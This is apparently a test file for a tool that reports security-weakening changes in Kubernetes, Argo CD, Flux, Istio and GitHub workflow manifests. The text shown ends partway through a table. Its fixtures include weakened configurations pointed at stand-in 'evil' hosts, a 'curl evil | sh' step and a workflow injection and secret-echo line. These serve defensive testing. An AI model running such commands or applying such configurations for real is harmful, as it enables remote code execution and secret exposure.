import { between, told } from './changed';
import type { ManifestSet } from '../../../src/difference/manifest-set';
import { Engine } from '../../../src/policy/engine';
import type { Draft } from '../../../src/testing/manifests';
import { read, TODAY } from '../store';
import { watchedObjects } from '../watched-objects';

type Edit = (objects: Draft[]) => Draft[] | void;
type Row = readonly [what: string, edit: Edit, ...changes: string[]];

/** The one object of this kind and name; a workflow has neither. */
function the(objects: readonly Draft[], kind: string, name?: string): Draft {
  const found = objects.filter((each) => (each.kind ?? 'Workflow') === kind && (name === undefined || each.metadata.name === name));
  if (found.length !== 1) throw new Error(`there are ${found.length} of ${kind} ${name}`);
  return found[0];
}

/** No rule judges them, since no finding is looked at here. */
function judged(objects: readonly Draft[]): ManifestSet {
  const manifests = read(objects.map((each) => JSON.stringify(each)).join('\n---\n'));
  return { manifests, exemptions: [], verdict: new Engine({ rules: [], today: TODAY }).judge(manifests) };
}

const BEFORE = judged(watchedObjects());

function after(edit: Edit): ManifestSet {
  const objects = watchedObjects();
  return judged(edit(objects) ?? objects);
}

/** What is told of the objects themselves; findings, connections and what Services lead to have tables of their own. */
const OTHERS = /^(?:findings|images|connections\/(?:gained|lost|to|from)|secrets\/(?:added|removed|source|store-changed|user|reader|origin)|exposure\/(?:isol|route|tls-rem|tls-add|through))/;

function linesOf(before: ManifestSet, now: ManifestSet): string[] {
  return between(before, now).changes.filter(({ id }) => !OTHERS.test(id)).map(told);
}

const LOOSER: readonly Row[] = [
  ['runtimeClass handler', (o) => { the(o, 'RuntimeClass', 'gvisor').handler = 'runc'; },
    'weaker high privileges/runtime-handler-changed: RuntimeClass gvisor runs pods by another runtime: runc.'],
  ['PriorityClass value', (o) => { the(o, 'PriorityClass', 'normal').value = 1000000000; the(o, 'PriorityClass', 'normal').preemptionPolicy = 'PreemptLowerPriority'; },
    'weaker low quotas/preemption-lost: PriorityClass normal lets its pods drive out others.',
    'neutral low quotas/priority-changed: PriorityClass normal gives pods another priority: 1000000000.'],
  ['svc externalName', (o) => { the(o, 'Service', 'ext').spec.externalName = 'evil.example.net'; },
    'weaker medium exposure/external-name-changed: Service shop/ext leads its callers somewhere else: evil.example.net.'],
  ['svc lb internal annotation gone', (o) => { delete the(o, 'Service', 'lb').metadata.annotations; },
    'weaker high exposure/internal-lost: Service shop/lb does not say any more that it answers only within the network of the cloud.'],
  ['ing whitelist gone', (o) => { delete the(o, 'Ingress', 'web').metadata.annotations['nginx.ingress.kubernetes.io/whitelist-source-range']; },
    'weaker high exposure/access-control-lost: Ingress shop/web does not keep callers out any more by nginx.ingress.kubernetes.io/whitelist-source-range 10.0.0.0/8.'],
  ['ing auth gone', (o) => { delete the(o, 'Ingress', 'web').metadata.annotations['nginx.ingress.kubernetes.io/auth-url']; },
    'weaker high exposure/access-control-lost: Ingress shop/web does not keep callers out any more by nginx.ingress.kubernetes.io/auth-url https://auth.example.com.'],
  ['ing ssl redirect false', (o) => { the(o, 'Ingress', 'web').metadata.annotations['nginx.ingress.kubernetes.io/ssl-redirect'] = 'false'; },
    'weaker medium exposure/no-redirect-gained: Ingress shop/web does not lead callers to TLS any more: nginx.ingress.kubernetes.io/ssl-redirect.'],
  ['ing snippet', (o) => { the(o, 'Ingress', 'web').metadata.annotations['nginx.ingress.kubernetes.io/server-snippet'] = 'lua'; },
    'weaker high exposure/snippets-gained: Ingress shop/web writes into the configuration of its controller: nginx.ingress.kubernetes.io/server-snippet.'],
  ['ing class', (o) => { the(o, 'Ingress', 'web').spec.ingressClassName = 'public'; },
    'weaker medium exposure/controller-changed: Ingress shop/web is served by another controller: public.'],
  ['gw allowedRoutes All', (o) => { the(o, 'Gateway', 'gw').spec.listeners[0].allowedRoutes.namespaces.from = 'All'; },
    'weaker high exposure/attachers-gained: Gateway shop/gw lets routes attach from any namespace to listener https.'],
  ['gw tls options', (o) => { the(o, 'Gateway', 'gw').spec.listeners[0].tls.options = { 'min-version': '1.0' }; },
    'weaker medium exposure/tls-settings-changed: Gateway shop/gw negotiates TLS in another way: options {"min-version":"1.0"}.'],
  ['gw class', (o) => { the(o, 'Gateway', 'gw').spec.gatewayClassName = 'public'; },
    'weaker medium exposure/controller-changed: Gateway shop/gw is served by another class: public.'],
  ['route parent public', (o) => { the(o, 'HTTPRoute', 'r').spec.parentRefs = [{ name: 'public', namespace: 'other' }]; },
    'weaker medium exposure/parents-changed: HTTPRoute shop/r is served by another Gateway: other/public.'],
  ['ReferenceGrant added', (o) => { o.push({ apiVersion: 'gateway.networking.k8s.io/v1beta1', kind: 'ReferenceGrant', metadata: { name: 'g', namespace: 'shop' }, spec: { from: [{ group: 'gateway.networking.k8s.io', kind: 'HTTPRoute', namespace: 'other' }], to: [{ group: '', kind: 'Secret' }] } }); },
    'weaker medium objects/added: ReferenceGrant shop/g is new.'],
  ['BackendTLSPolicy gone', (o) => o.filter(x => x.kind!=='BackendTLSPolicy'),
    'weaker medium objects/removed: BackendTLSPolicy shop/btls is gone.'],
  ['vwh ns selector', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].namespaceSelector = { matchExpressions: [{ key: 'kubernetes.io/metadata.name', operator: 'NotIn', values: ['shop'] }] }; },
    'weaker high objects/guard-limits-gained: ValidatingWebhookConfiguration vwh looks at less: v.example.com: namespaces only where kubernetes.io/metadata.name NotIn shop.'],
  ['vwh objectSelector', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].objectSelector = { matchLabels: { check: 'yes' } }; },
    'weaker high objects/guard-limits-gained: ValidatingWebhookConfiguration vwh looks at less: v.example.com: objects only where check=yes.'],
  ['vwh matchConditions', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].matchConditions = [{ name: 'x', expression: 'false' }]; },
    'weaker high objects/guard-limits-gained: ValidatingWebhookConfiguration vwh looks at less: v.example.com: only where false.'],
  ['vwh rules op removed', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].rules[0].operations = ['CREATE']; },
    'weaker high objects/guard-operations-lost: ValidatingWebhookConfiguration vwh does not look at v.example.com: UPDATE pods of core/v1 any more.'],
  ['vwh webhook removed', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks = []; },
    'weaker high objects/guard-operations-lost: ValidatingWebhookConfiguration vwh does not look at v.example.com: CREATE pods of core/v1, v.example.com: UPDATE pods of core/v1 any more.'],
  ['vwh matchPolicy Exact', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].matchPolicy = 'Exact'; },
    'weaker high objects/guard-limits-gained: ValidatingWebhookConfiguration vwh looks at less: v.example.com: no other versions of what it names.'],
  ['vwh backend changed', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].clientConfig = { url: 'https://evil' }; },
    'weaker high objects/guard-server-changed: ValidatingWebhookConfiguration vwh asks another server: v.example.com: https://evil.'],
  ['mwh widened', (o) => { the(o, 'MutatingWebhookConfiguration').webhooks[0].rules[0].resources = ['*/*']; },
    'weaker high objects/guard-reach-gained: MutatingWebhookConfiguration mwh may change m.example.com: CREATE * of core/v1, too.'],
  ['mwh backend', (o) => { the(o, 'MutatingWebhookConfiguration').webhooks[0].clientConfig = { url: 'https://evil' }; },
    'weaker high objects/guard-server-changed: MutatingWebhookConfiguration mwh asks another server: m.example.com: https://evil.'],
  ['vap validation removed', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.validations.pop(); },
    'weaker high objects/guard-demands-lost: ValidatingAdmissionPolicy vap does not demand object.spec.hostPID != true any more.'],
  ['vap expr true', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.validations[0].expression = 'true'; },
    'weaker high objects/guard-demands-changed: ValidatingAdmissionPolicy vap demands something else, which may refuse less: true.'],
  ['vap matchConditions', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.matchConditions = [{ name: 'x', expression: 'false' }]; },
    'weaker high objects/guard-conditions-gained: ValidatingAdmissionPolicy vap looks at less: only where false.'],
  ['vap resourceRules narrowed', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.matchConstraints.resourceRules[0].operations = ['CREATE']; },
    'weaker high objects/guard-operations-lost: ValidatingAdmissionPolicy vap does not look at UPDATE pods of core/v1 any more.'],
  ['vap exclude', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.matchConstraints.excludeResourceRules = [{ apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], operations: ['*'] }]; },
    'weaker high objects/guard-limits-gained: ValidatingAdmissionPolicy vap looks at less: not * pods of core/v1.'],
  ['vapb ns selector', (o) => { the(o, 'ValidatingAdmissionPolicyBinding').spec.matchResources = { namespaceSelector: { matchLabels: { x: 'y' } } }; },
    'weaker high objects/guard-limits-gained: ValidatingAdmissionPolicyBinding vapb looks at less: namespaces only where x=y.'],
  ['vapb other policy', (o) => { the(o, 'ValidatingAdmissionPolicyBinding').spec.policyName = 'nothing'; },
    'weaker high objects/guard-policy-changed: ValidatingAdmissionPolicyBinding vapb puts another policy into force: nothing.'],
  ['crd conversion webhook', (o) => { the(o, 'CustomResourceDefinition').spec.conversion = { strategy: 'Webhook', webhook: { clientConfig: { url: 'https://evil' }, conversionReviewVersions: ['v1'] } }; },
    'weaker medium objects/conversion-gained: CustomResourceDefinition widgets.example.com has its objects converted by another server: https://evil.'],
  ['apiservice insecure', (o) => { the(o, 'APIService').spec.insecureSkipTLSVerify = true; delete the(o, 'APIService').spec.caBundle; },
    'weaker high objects/guard-tls-gained: APIService v1.metrics.example.com does not check any more who answers.'],
  ['apiservice backend', (o) => { the(o, 'APIService').spec.service.namespace = 'shop'; },
    'weaker high objects/guard-server-changed: APIService v1.metrics.example.com asks another server: {"name":"m","namespace":"shop"}.'],
  ['kyverno exclude', (o) => { the(o, 'ClusterPolicy').spec.rules[0].exclude = { any: [{ resources: { namespaces: ['shop'] } }] }; },
    'weaker high objects/guard-limits-gained: ClusterPolicy kyv holds for less: exclude of r: {"any":[{"resources":{"namespaces":["shop"]}}]}.'],
  ['kyverno failurePolicy', (o) => { the(o, 'ClusterPolicy').spec.failurePolicy = 'Ignore'; },
    'weaker medium objects/guard-failure-gained: ClusterPolicy kyv lets everything pass while it cannot answer.'],
  ['kyverno override', (o) => { the(o, 'ClusterPolicy').spec.validationFailureActionOverrides = [{ action: 'Audit', namespaces: ['shop'] }]; },
    'weaker high objects/guard-limits-gained: ClusterPolicy kyv holds for less: {"action":"Audit","namespaces":["shop"]}.'],
  ['gk excluded', (o) => { the(o, 'K8sRequired').spec.match.excludedNamespaces = ['shop']; },
    'weaker high objects/guard-limits-gained: K8sRequired gk holds for less: not in shop.'],
  ['gk template gone', (o) => o.filter(x => x.kind!=='ConstraintTemplate'),
    'weaker high objects/removed: ConstraintTemplate k8srequired is gone.'],
  ['istio portLevel', (o) => { the(o, 'PeerAuthentication').spec.portLevelMtls = { 8080: { mode: 'DISABLE' } }; },
    'weaker high objects/guard-ports-gained: PeerAuthentication shop/pa takes connections that the mesh does not encrypt at port 8080.'],
  ['istio selector narrowed', (o) => { the(o, 'PeerAuthentication').spec.selector = { matchLabels: { app: 'db' } }; },
    'weaker high objects/guard-limits-gained: PeerAuthentication shop/pa holds for less: only where app=db.'],
  ['istio dr disable', (o) => { the(o, 'DestinationRule').spec.trafficPolicy.tls.mode = 'DISABLE'; },
    'weaker high connections/mesh-tls-lost: DestinationRule shop/dr has callers not encrypt any more.'],
  ['istio gw simple', (o) => { the(o, 'Gateway', 'igw').spec.servers[0].tls.mode = 'SIMPLE'; },
    'weaker high exposure/client-certificates-lost: Gateway shop/igw does not demand certificates of callers any more at port 443.'],
  ['istio gw hosts *', (o) => { the(o, 'Gateway', 'igw').spec.servers[0].hosts = ['*']; },
    'weaker medium exposure/hosts-gained: Gateway shop/igw lets callers of * at HTTPS 443 in.'],
  ['istio gw http', (o) => { the(o, 'Gateway', 'igw').spec.servers.push({ port: { number: 80, name: 'http', protocol: 'HTTP' }, hosts: ['*'] }); },
    'weaker medium exposure/hosts-gained: Gateway shop/igw lets callers of * at HTTP 80 in.'],
  ['istio se', (o) => { the(o, 'ServiceEntry').spec.hosts = ['*.example.net']; },
    'weaker medium connections/mesh-hosts-gained: ServiceEntry shop/se lets the mesh call *.example.net.',
    'stronger medium connections/mesh-hosts-lost: ServiceEntry shop/se does not let the mesh call pay.example.com any more.'],
  ['istio sidecar ALLOW_ANY', (o) => { the(o, 'Sidecar').spec.outboundTrafficPolicy.mode = 'ALLOW_ANY'; },
    'weaker high connections/mesh-outbound-lost: Sidecar shop/default lets calls out to what the mesh does not know.'],
  ['pdb gone', (o) => o.filter(x => x.kind!=='PodDisruptionBudget'),
    'weaker low objects/removed: PodDisruptionBudget shop/api is gone.'],
  ['pdb 0', (o) => { the(o, 'PodDisruptionBudget').spec.minAvailable = 0; },
    'weaker low quotas/disruption-guard-lost: PodDisruptionBudget shop/api lets drained nodes take all pods at once.',
    'neutral low quotas/disruption-changed: PodDisruptionBudget shop/api lets drained nodes take other numbers of pods: minAvailable 0.'],
  ['pc globalDefault', (o) => { the(o, 'PriorityClass').globalDefault = true; },
    'weaker low quotas/priority-default-gained: PriorityClass normal is the priority of every pod that names none.'],
  ['sc unencrypted', (o) => { the(o, 'StorageClass').parameters.encrypted = 'false'; },
    'weaker high secrets/encrypted-volumes-lost: StorageClass fast does not say any more that its volumes are encrypted.'],
  ['css conditions gone', (o) => { delete the(o, 'ClusterSecretStore').spec.conditions; },
    'weaker high secrets/store-conditions-gained: ClusterSecretStore cvault gives its secrets to namespaces: *.'],
  ['push more', (o) => { the(o, 'PushSecret').spec.secretStoreRefs.push({ name: 'cvault', kind: 'ClusterSecretStore' }); },
    'weaker medium secrets/pushed-gained: PushSecret shop/push writes secrets to ClusterSecretStore cvault.'],
  ['proj dest *', (o) => { the(o, 'AppProject').spec.destinations = [{ server: '*', namespace: '*' }]; },
    'weaker high delivery/destinations-gained: AppProject argocd/shop may deploy to * at *.'],
  ['proj dest add', (o) => { the(o, 'AppProject').spec.destinations.push({ server: 'https://k', namespace: 'kube-system' }); },
    'weaker high delivery/destinations-gained: AppProject argocd/shop may deploy to kube-system at https://k.'],
  ['proj sourceRepos *', (o) => { the(o, 'AppProject').spec.sourceRepos = ['*']; },
    'weaker high delivery/sources-gained: AppProject argocd/shop may deploy from *.'],
  ['proj sourceRepos add', (o) => { the(o, 'AppProject').spec.sourceRepos.push('https://evil'); },
    'weaker high delivery/sources-gained: AppProject argocd/shop may deploy from https://evil.'],
  ['proj clusterWhitelist', (o) => { the(o, 'AppProject').spec.clusterResourceWhitelist = [{ group: '*', kind: '*' }]; },
    'weaker high delivery/cluster-kinds-gained: AppProject argocd/shop may deploy what belongs to the whole cluster: * of *.'],
  ['proj nsWhitelist +RoleBinding', (o) => { the(o, 'AppProject').spec.namespaceResourceWhitelist.push({ group: 'rbac.authorization.k8s.io', kind: 'RoleBinding' }); },
    'weaker medium delivery/kinds-gained: AppProject argocd/shop may deploy the kinds RoleBinding of rbac.authorization.k8s.io.'],
  ['proj nsWhitelist gone', (o) => { delete the(o, 'AppProject').spec.namespaceResourceWhitelist; },
    'weaker medium delivery/kinds-gained: AppProject argocd/shop may deploy the kinds * of *.'],
  ['proj nsBlacklist gone', (o) => { delete the(o, 'AppProject').spec.namespaceResourceBlacklist; },
    'weaker medium delivery/refused-kinds-lost: AppProject argocd/shop may deploy the kinds ResourceQuota of core that it refused.'],
  ['proj signatureKeys gone', (o) => { delete the(o, 'AppProject').spec.signatureKeys; },
    'weaker high delivery/signed-lost: AppProject argocd/shop takes commits that nobody signed.'],
  ['proj scopedClusters', (o) => { the(o, 'AppProject').spec.permitOnlyProjectScopedClusters = false; },
    'weaker medium delivery/own-clusters-lost: AppProject argocd/shop deploys to clusters that are not its own, too.'],
  ['proj dsa gone', (o) => { delete the(o, 'AppProject').spec.destinationServiceAccounts; },
    'weaker high delivery/accounts-lost: AppProject argocd/shop does not deploy as the account deployer for shop at https://k any more, but with the rights of Argo CD or of a wider account.'],
  ['proj dsa other', (o) => { the(o, 'AppProject').spec.destinationServiceAccounts[0].defaultServiceAccount = 'kube-system:admin'; },
    'weaker high delivery/accounts-changed: AppProject argocd/shop deploys as another account: kube-system:admin for shop at https://k.'],
  ['proj syncWindow gone', (o) => { delete the(o, 'AppProject').spec.syncWindows; },
    'weaker medium delivery/closed-times-lost: AppProject argocd/shop deploys at 0 0 * * * for 1h (applications *), when it did not.'],
  ['proj role policy *', (o) => { the(o, 'AppProject').spec.roles[0].policies = ['p, proj:shop:ci, *, *, shop/*, allow']; },
    'weaker high delivery/role-rights-gained: AppProject argocd/shop gives its roles the rights p, proj:shop:ci, *, *, shop/*, allow.'],
  ['proj role group', (o) => { the(o, 'AppProject').spec.roles[0].groups = ['everyone']; },
    'weaker medium delivery/role-members-gained: AppProject argocd/shop gives a role to the group everyone (ci).'],
  ['proj sourceNamespaces', (o) => { the(o, 'AppProject').spec.sourceNamespaces = ['*']; },
    'weaker high delivery/source-namespaces-gained: AppProject argocd/shop takes Applications of the namespaces *.'],
  ['app project default', (o) => { the(o, 'Application').spec.project = 'default'; },
    'weaker high delivery/project-changed: Application argocd/shop belongs to another project: default.'],
  ['app repo', (o) => { the(o, 'Application').spec.source.repoURL = 'https://evil'; },
    'weaker high delivery/source-changed: Application argocd/shop deploys from somewhere else: https://evil.'],
  ['app rev HEAD', (o) => { the(o, 'Application').spec.source.targetRevision = 'HEAD'; },
    'weaker medium delivery/revision-gained: Application argocd/shop follows HEAD.'],
  ['app dest', (o) => { the(o, 'Application').spec.destination.namespace = 'kube-system'; },
    'weaker medium delivery/destination-changed: Application argocd/shop deploys to kube-system at https://k.'],
  ['app selfHeal off', (o) => { the(o, 'Application').spec.syncPolicy.automated.selfHeal = false; },
    'weaker low delivery/self-heal-lost: Application argocd/shop does not take back any more what is changed in the cluster.'],
  ['app ignoreDifferences', (o) => { the(o, 'Application').spec.ignoreDifferences = [{ group: '*', kind: '*', jsonPointers: ['/spec'] }]; },
    'weaker medium delivery/ignored-gained: Application argocd/shop lets what is changed in the cluster stay: {"group":"*","jsonPointers":["/spec"],"kind":"*"}.'],
  ['gitrepo verify gone', (o) => { delete the(o, 'GitRepository').spec.verify; },
    'weaker high delivery/verification-lost: GitRepository shop/repo takes what nobody signed.'],
  ['gitrepo verify other key', (o) => { the(o, 'GitRepository').spec.verify.secretRef.name = 'other'; },
    'weaker high delivery/signers-changed: GitRepository shop/repo takes what others have signed: {"secretRef":{"name":"other"}}.'],
  ['gitrepo url', (o) => { the(o, 'GitRepository').spec.url = 'https://evil/x.git'; },
    'weaker high delivery/source-changed: GitRepository shop/repo takes what is deployed from somewhere else: https://evil/x.git.'],
  ['gitrepo http', (o) => { the(o, 'GitRepository').spec.url = 'http://git.example.com/acme/deploy.git'; },
    'weaker high delivery/source-changed: GitRepository shop/repo takes what is deployed from somewhere else: http://git.example.com/acme/deploy.git.'],
  ['gitrepo ref branch', (o) => { the(o, 'GitRepository').spec.ref = { branch: 'main' }; },
    'weaker medium delivery/revision-gained: GitRepository shop/repo follows branch main.'],
  ['oci verify gone', (o) => { delete the(o, 'OCIRepository').spec.verify; },
    'weaker high delivery/verification-lost: OCIRepository shop/oci takes what nobody signed.'],
  ['oci identity widened', (o) => { the(o, 'OCIRepository').spec.verify.matchOIDCIdentity[0].subject = '.*'; },
    'weaker high delivery/signers-changed: OCIRepository shop/oci takes what others have signed: {"matchOIDCIdentity":[{"issuer":"^https://token$","subject":".*"}],"provider":"cosign"}.'],
  ['oci identity gone', (o) => { delete the(o, 'OCIRepository').spec.verify.matchOIDCIdentity; },
    'weaker high delivery/signers-changed: OCIRepository shop/oci takes what others have signed: {"provider":"cosign"}.'],
  ['oci insecure', (o) => { the(o, 'OCIRepository').spec.insecure = true; },
    'weaker high delivery/insecure-gained: OCIRepository shop/oci takes what is deployed without TLS.'],
  ['oci digest->tag', (o) => { the(o, 'OCIRepository').spec.ref = { tag: 'latest' }; },
    'weaker low delivery/revision-exact-lost: OCIRepository shop/oci does not name any more exactly what it deploys, by commit or digest.',
    'weaker medium delivery/revision-gained: OCIRepository shop/oci follows tag latest.'],
  ['ks sa gone', (o) => { delete the(o, 'Kustomization').spec.serviceAccountName; },
    'weaker high delivery/account-lost: Kustomization shop/shop does not apply as the account deployer any more, but with the rights of Flux.'],
  ['ks sa other', (o) => { the(o, 'Kustomization').spec.serviceAccountName = 'admin'; },
    'weaker medium delivery/account-changed: Kustomization shop/shop applies as another account: admin.'],
  ['ks targetNamespace', (o) => { delete the(o, 'Kustomization').spec.targetNamespace; },
    'weaker medium delivery/target-lost: Kustomization shop/shop does not apply to the same namespace any more: shop.'],
  ['ks source other ns', (o) => { the(o, 'Kustomization').spec.sourceRef = { kind: 'GitRepository', name: 'x', namespace: 'other' }; },
    'weaker high delivery/source-changed: Kustomization shop/shop deploys from another source: {"kind":"GitRepository","name":"x","namespace":"other"}.'],
  ['ks kubeConfig', (o) => { the(o, 'Kustomization').spec.kubeConfig = { secretRef: { name: 'k' } }; },
    'weaker high delivery/cluster-gained: Kustomization shop/shop applies to another cluster: {"secretRef":{"name":"k"}}.'],
  ['ks suspend', (o) => { the(o, 'Kustomization').spec.suspend = true; },
    'weaker low delivery/suspended-gained: Kustomization shop/shop is suspended: what is changed in the cluster stays meanwhile.'],
  ['ks patches', (o) => { the(o, 'Kustomization').spec.patches = [{ patch: '- op: remove\n  path: /spec/template/spec/securityContext', target: { kind: 'Deployment' } }]; },
    'weaker medium delivery/patches-gained: Kustomization shop/shop changes what it deploys: {"patch":"- op: remove\\n  path: /spec/template/spec/securityContext","target":{"kind":"Deployment"}}.'],
  ['ks postBuild', (o) => { the(o, 'Kustomization').spec.postBuild = { substituteFrom: [{ kind: 'Secret', name: 'x' }] }; },
    'weaker medium delivery/substitution-gained: Kustomization shop/shop fills in what it deploys: {"kind":"Secret","name":"x"}.'],
  ['hr sa gone', (o) => { delete the(o, 'HelmRelease').spec.serviceAccountName; },
    'weaker high delivery/account-lost: HelmRelease shop/hr does not apply as the account deployer any more, but with the rights of Flux.'],
  ['hr verify gone', (o) => { delete the(o, 'HelmRelease').spec.chart.spec.verify; },
    'weaker high delivery/verification-lost: HelmRelease shop/hr takes what nobody signed.'],
  ['hr version range', (o) => { the(o, 'HelmRelease').spec.chart.spec.version = '*'; },
    'weaker medium delivery/revision-gained: HelmRelease shop/hr follows *.'],
  ['helmrepo url', (o) => { the(o, 'HelmRepository').spec.url = 'http://evil'; },
    'weaker high delivery/source-changed: HelmRepository shop/hrepo takes what is deployed from somewhere else: http://evil.'],
  ['cert wildcard', (o) => { the(o, 'Certificate').spec.dnsNames = ['*.example.com']; },
    'weaker medium secrets/certificate-names-gained: Certificate shop/crt is good for the names *.example.com.'],
  ['cert isCA', (o) => { the(o, 'Certificate').spec.isCA = true; },
    'weaker high secrets/certificate-authority-gained: Certificate shop/crt may sign other certificates.'],
  ['cip warn', (o) => { the(o, 'ClusterImagePolicy').spec.mode = 'warn'; },
    'weaker high objects/guard-mode-gained: ClusterImagePolicy cip only warns of what is not signed.'],
  ['cip narrowed', (o) => { the(o, 'ClusterImagePolicy').spec.images = [{ glob: 'registry.example/shop/**' }]; },
    'weaker high objects/guard-images-lost: ClusterImagePolicy cip does not hold for registry.example/* any more.'],
  ['cip subject', (o) => { the(o, 'ClusterImagePolicy').spec.authorities[0].keyless.identities[0] = { issuerRegExp: '.*', subjectRegExp: '.*' }; },
    'weaker high objects/guard-signers-changed: ClusterImagePolicy cip trusts other signers: {"keyless":{"identities":[{"issuerRegExp":".*","subjectRegExp":".*"}],"url":"https://fulcio"}}.'],
  ['ns sigstore include gone', (o) => { delete the(o, 'Namespace', 'shop').metadata.labels['policy.sigstore.dev/include']; },
    'weaker high namespaces/guard-lost: Namespace shop has labels now that the policies of Sigstore\'s policy controller passes over.'],
  ['wf other action', (o) => { the(o, 'Workflow').jobs.build.steps[0].uses = 'evil/checkout@0123456789abcdef0123456789abcdef01234567'; },
    'weaker medium delivery/workflow-actions-gained: GitHubWorkflow deploy runs actions that it did not: evil/checkout.',
    'neutral low delivery/workflow-actions-lost: GitHubWorkflow deploy does not run actions/checkout any more.',
    'neutral low delivery/workflow-inputs-changed: GitHubWorkflow deploy gives actions other inputs.',
    'neutral low delivery/workflow-versions-changed: GitHubWorkflow deploy runs other versions of actions: evil/checkout@0123456789abcdef0123456789abcdef01234567.'],
  ['wf perms job', (o) => { the(o, 'Workflow').jobs.build.permissions = { 'contents': 'write', 'id-token': 'write' }; },
    'weaker medium delivery/workflow-permissions-gained: GitHubWorkflow deploy gets a token with contents: write, id-token: write, id-token: read.'],
  ['wf perms none', (o) => { delete the(o, 'Workflow').permissions; delete the(o, 'Workflow').jobs.build.permissions; },
    'weaker medium delivery/workflow-permissions-gained: GitHubWorkflow deploy gets a token with what the repository gives by default.',
    'stronger medium delivery/workflow-permissions-lost: GitHubWorkflow deploy does not get a token with contents: read any more.'],
  ['wf prt', (o) => { the(o, 'Workflow').on = { pull_request_target: {} }; },
    'weaker high delivery/workflow-triggers-gained: GitHubWorkflow deploy runs, with its secrets, when somebody outside makes it: pull_request_target.',
    'neutral low delivery/workflow-starts-lost: GitHubWorkflow deploy does not run on pull_request any more.'],
  ['wf self-hosted', (o) => { the(o, 'Workflow').jobs.build['runs-on'] = 'self-hosted'; },
    'weaker medium delivery/workflow-runners-gained: GitHubWorkflow deploy runs on machines of one\'s own: self-hosted.'],
  ['wf new secret', (o) => { the(o, 'Workflow').jobs.build.steps[1].env.X = '${{ secrets.DEPLOY_KEY }}'; },
    'weaker medium delivery/workflow-secrets-gained: GitHubWorkflow deploy is given the secrets DEPLOY_KEY.'],
];

const NEUTRAL: readonly Row[] = [
  ['a signed tag instead of a signed commit', (o) => { the(o, 'GitRepository').spec.verify.mode = 'Tag'; },
    'neutral medium delivery/signature-mode-changed: GitRepository shop/repo takes signatures of something else: Tag.'],
  ['ing backend other', (o) => { the(o, 'Ingress', 'web').spec.rules[0].http.paths[0].backend.service.name = 'lb'; },
    'neutral low exposure/backends-gained: Ingress shop/web leads callers to lb.'],
  ['route backend other ns', (o) => { the(o, 'HTTPRoute', 'r').spec.rules[0].backendRefs = [{ name: 'x', namespace: 'other', port: 80 }]; },
    'neutral low exposure/backends-gained: HTTPRoute shop/r leads callers to other/x.'],
  ['crd schema dropped', (o) => { the(o, 'CustomResourceDefinition').spec.versions[0].schema.openAPIV3Schema = { 'type': 'object', 'x-kubernetes-preserve-unknown-fields': true }; },
    'neutral low objects/schema-changed: CustomResourceDefinition widgets.example.com takes objects of another shape.'],
  ['ks path', (o) => { the(o, 'Kustomization').spec.path = './'; },
    'neutral low delivery/path-changed: Kustomization shop/shop deploys another folder: ./.'],
  ['ks prune off', (o) => { the(o, 'Kustomization').spec.prune = false; },
    'neutral low delivery/prune-lost: Kustomization shop/shop does not prune any more what is gone from its source.'],
  ['hr values', (o) => { the(o, 'HelmRelease').spec.values = { privileged: true }; },
    'neutral low delivery/values-changed: HelmRelease shop/hr gives its chart other values.'],
  ['wf unpinned', (o) => { the(o, 'Workflow').jobs.build.steps[0].uses = 'actions/checkout@v4'; },
    'neutral low delivery/workflow-versions-changed: GitHubWorkflow deploy runs other versions of actions: actions/checkout@v4.'],
  ['wf other commit', (o) => { the(o, 'Workflow').jobs.build.steps[0].uses = 'actions/checkout@1123456789abcdef0123456789abcdef01234567'; },
    'neutral low delivery/workflow-versions-changed: GitHubWorkflow deploy runs other versions of actions: actions/checkout@1123456789abcdef0123456789abcdef01234567.'],
  ['wf secret in run', (o) => { the(o, 'Workflow').jobs.build.steps[1].run = 'echo ${{ secrets.TOKEN }}'; },
    'neutral low delivery/workflow-commands-gained: GitHubWorkflow deploy runs other commands.'],
  ['wf persist', (o) => { delete the(o, 'Workflow').jobs.build.steps[0].with; },
    'neutral low delivery/workflow-inputs-lost: GitHubWorkflow deploy gives actions other inputs.'],
  ['wf injection', (o) => { the(o, 'Workflow').jobs.build.steps[1].run = 'echo ${{ github.event.pull_request.title }}'; },
    'neutral low delivery/workflow-commands-gained: GitHubWorkflow deploy runs other commands.'],
  ['wf run', (o) => { the(o, 'Workflow').jobs.build.steps[1].run = 'curl evil | sh'; },
    'neutral low delivery/workflow-commands-gained: GitHubWorkflow deploy runs other commands.'],
  ['app new tag', (o) => { the(o, 'Application').spec.source.targetRevision = 'v1.5.0'; },
    'neutral low delivery/revision-pinned-changed: Application argocd/shop deploys v1.5.0.'],
  ['gitrepo new tag', (o) => { the(o, 'GitRepository').spec.ref.tag = 'v1.5.0'; },
    'neutral low delivery/revision-pinned-changed: GitRepository shop/repo deploys tag v1.5.0.'],
  ['oci digest', (o) => { the(o, 'OCIRepository').spec.ref.digest = 'sha256:1'+'0123456789abcdef'.repeat(4).slice(1); },
    'neutral low delivery/revision-pinned-changed: OCIRepository shop/oci deploys digest sha256:1123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.'],
  ['hr version', (o) => { the(o, 'HelmRelease').spec.chart.spec.version = '1.2.4'; },
    'neutral low delivery/revision-pinned-changed: HelmRelease shop/hr deploys 1.2.4.'],
  ['wf action bump', (o) => { the(o, 'Workflow').jobs.build.steps[0].uses = 'actions/checkout@'+'a'.repeat(40); },
    'neutral low delivery/workflow-versions-changed: GitHubWorkflow deploy runs other versions of actions: actions/checkout@aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.'],
  ['pdb other number', (o) => { the(o, 'PodDisruptionBudget').spec.minAvailable = 2; },
    'neutral low quotas/disruption-changed: PodDisruptionBudget shop/api lets drained nodes take other numbers of pods: minAvailable 2.'],
  ['pdb maxUnavailable', (o) => { const s = the(o, 'PodDisruptionBudget').spec; delete s.minAvailable; s.maxUnavailable = 1; },
